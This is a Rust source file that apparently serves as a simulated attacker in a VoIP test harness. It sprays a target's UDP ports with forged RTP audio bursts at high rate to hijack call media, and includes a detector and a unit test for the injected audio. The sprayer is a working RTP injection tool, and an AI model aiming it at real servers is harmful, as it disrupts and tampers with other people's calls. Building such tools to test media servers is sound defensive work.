//! An attacker that sprays a whole range of ports with RTP, to be taken for the peer of some call.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::ops::RangeInclusive;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// What every octet of the attacker's audio is; nobody else's audio holds a row of it.
const OCTET: u8 = 0x2a;
/// Longer rows of one octet are no speech. (A receiver may cut a frame anywhere.)
const ROW: usize = 20;

/// Packets to one port before the next has its turn: as many as may prove a sender, and more.
const BURST: u16 = 4;
/// After so many packets the sprayer sleeps.
const PACKETS_A_BREATH: u32 = 400;
/// 40,000 packets a second, if the machine has room for them.
const BREATH: Duration = Duration::from_millis(10);

/// Whether a payload holds what the attacker says.
#[must_use]
pub fn is_injected(payload: &[u8]) -> bool {
    payload
        .chunk_by(|a, b| a == b)
        .any(|row| row[0] == OCTET && row.len() >= ROW)
}

/// A sprayer that runs. Dropping it ends it.
#[derive(Debug)]
pub struct Sprayer {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<u64>>,
}

impl Sprayer {
    /// Sends bursts of PCMU and PCMA, each in a stream of its own, to every port of `ports` in turn, again and again.
    #[must_use]
    pub fn start(from: Ipv4Addr, target: Ipv4Addr, ports: RangeInclusive<u16>) -> Self {
        let socket = UdpSocket::bind((from, 0)).expect("a host has its own address");
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = std::thread::spawn(move || spray(&socket, target, &ports, &stopped));
        Self {
            stop,
            thread: Some(thread),
        }
    }

    /// Ends it, and tells how many packets it sent.
    #[must_use]
    pub fn finish(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().expect("finish takes the sprayer");
        thread.join().expect("the sprayer does not panic")
    }
}

impl Drop for Sprayer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn spray(
    socket: &UdpSocket,
    target: Ipv4Addr,
    ports: &RangeInclusive<u16>,
    stop: &AtomicBool,
) -> u64 {
    let (mut sent, mut in_breath, mut sequence) = (0, 0, 0_u16);
    let mut breath = Instant::now();
    for (port, payload_type) in ports
        .clone()
        .flat_map(|port| [(port, 0), (port, 8)])
        .cycle()
    {
        if stop.load(Ordering::Relaxed) {
            return sent;
        }
        for _ in 0..BURST {
            sequence = sequence.wrapping_add(1);
            let packet = packet(payload_type, sequence);
            // A closed port answers with an error that the next packet's sender is told.
            sent += u64::from(
                socket
                    .send_to(&packet, SocketAddr::from((target, port)))
                    .is_ok(),
            );
            in_breath += 1;
        }
        if in_breath >= PACKETS_A_BREATH {
            std::thread::sleep((breath + BREATH).saturating_duration_since(Instant::now()));
            (breath, in_breath) = (Instant::now(), 0);
        }
    }
    sent
}

/// 20 ms of the attacker's audio. Its SSRC says which payload type it has.
fn packet(payload_type: u8, sequence: u16) -> [u8; 172] {
    let mut packet = [OCTET; 172];
    packet[..2].copy_from_slice(&[0x80, payload_type]);
    packet[2..4].copy_from_slice(&sequence.to_be_bytes());
    packet[4..8].copy_from_slice(&(u32::from(sequence) * 160).to_be_bytes());
    packet[8..12].copy_from_slice(&(0xbad0 + u32::from(payload_type)).to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_injected_is_found_wherever_it_was_cut() {
        let ours = packet(0, 1);
        assert!(is_injected(&ours[12..]));
        assert!(is_injected(&[&[0xff; 140], &ours[12..32]].concat()));
        assert!(!is_injected(&[0xff; 160]));
        assert!(!is_injected(&[[1, OCTET]; 80].concat()));
        assert!(!is_injected(&[]));
    }
}
